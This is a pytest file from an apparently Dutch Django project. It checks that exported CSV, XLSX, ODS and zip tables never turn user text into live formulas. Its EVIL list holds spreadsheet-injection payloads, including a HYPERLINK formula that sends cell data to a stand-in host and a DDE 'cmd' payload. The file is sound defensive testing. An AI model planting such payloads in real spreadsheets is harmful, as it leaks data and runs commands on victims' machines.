"""No cell of any table that we give away is a formula, whatever somebody typed."""

import csv
import io
import re
import zipfile
from datetime import date

import openpyxl
import pytest
from django.utils import timezone

from measures.documents.safety import is_formula
from measures.models import Status
from tests.desk.people import colleague
from tests.factories import make_measure, make_theme, report

pytestmark = pytest.mark.django_db

# What spreadsheet programs calculate, fetch or run when they open it.
EVIL = [
    "=1+1",
    '=HYPERLINK("https://elders.example/?"&A1,"klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\uff1d1+1",
    " =1+1",
]
TODAY = timezone.localdate
TABLES = [
    *(f"/maatregelen.{name}" for name in ("csv", "xlsx", "ods")),
    *(f"/bijlage/bijlage-kwalibo-{{today}}.{name}" for name in ("csv", "xlsx", "ods")),
    *(f"/vergelijken.{name}?van=2024-01-01&tot={{today}}" for name in ("csv", "xlsx", "ods")),
    *(
        f"/beheer/measures/measure/spreadsheet/maatregelen.{name}"
        for name in ("csv", "xlsx", "ods")
    ),
    "/beelden/status-per-hoofdlijn.csv",
    "/open-data/kwalibo-csv.zip",
]


def cells_of_csv(data: bytes) -> list[str]:
    text = data.decode("utf-8-sig")
    delimiter = max(";,", key=text.partition("\n")[0].count)
    return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]


def formulas(address: str, data: bytes) -> tuple[list[str], str]:
    """(the cells that a program would calculate, all text of the table)."""
    ending = re.search(r"\.(\w+)(\?|$)", address)[1]
    if ending == "csv":
        cells = cells_of_csv(data)
        return [cell for cell in cells if is_formula(cell)], "\n".join(cells)
    if ending == "zip":
        package = zipfile.ZipFile(io.BytesIO(data))
        parts = [name for name in package.namelist() if name.endswith(".csv")]
        cells = [cell for name in parts for cell in cells_of_csv(package.read(name))]
        return [cell for cell in cells if is_formula(cell)], "\n".join(cells)
    if ending == "xlsx":
        book = openpyxl.load_workbook(io.BytesIO(data))
        found = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
        text = "\n".join(str(cell.value) for cell in found)
        return [str(cell.value) for cell in found if cell.data_type == "f"], text
    content = zipfile.ZipFile(io.BytesIO(data)).read("content.xml").decode()
    return re.findall(r"table:formula=\"[^\"]*\"", content), content


@pytest.fixture
def evil_texts(settings):
    settings.FOUR_EYES = False
    for number, text in enumerate(EVIL, start=1):
        theme = make_theme(title=text, slug=f"hoofdlijn-{number}")
        measure = make_measure(number=number, title=text, theme=theme)
        report(measure, Status.PLANNED, on=date(2024, 2, 1), explanation=text)


@pytest.mark.parametrize("address", TABLES)
def test_no_cell_of_a_table_is_calculated(client, evil_texts, address):
    client.force_login(colleague("bea", "beheerder"))
    answer = client.get(address.format(today=TODAY().isoformat()))
    assert answer.status_code == 200

    found, text = formulas(address, b"".join(answer))

    assert found == []
    # They are there all the same, as text.
    assert "1+1" in text
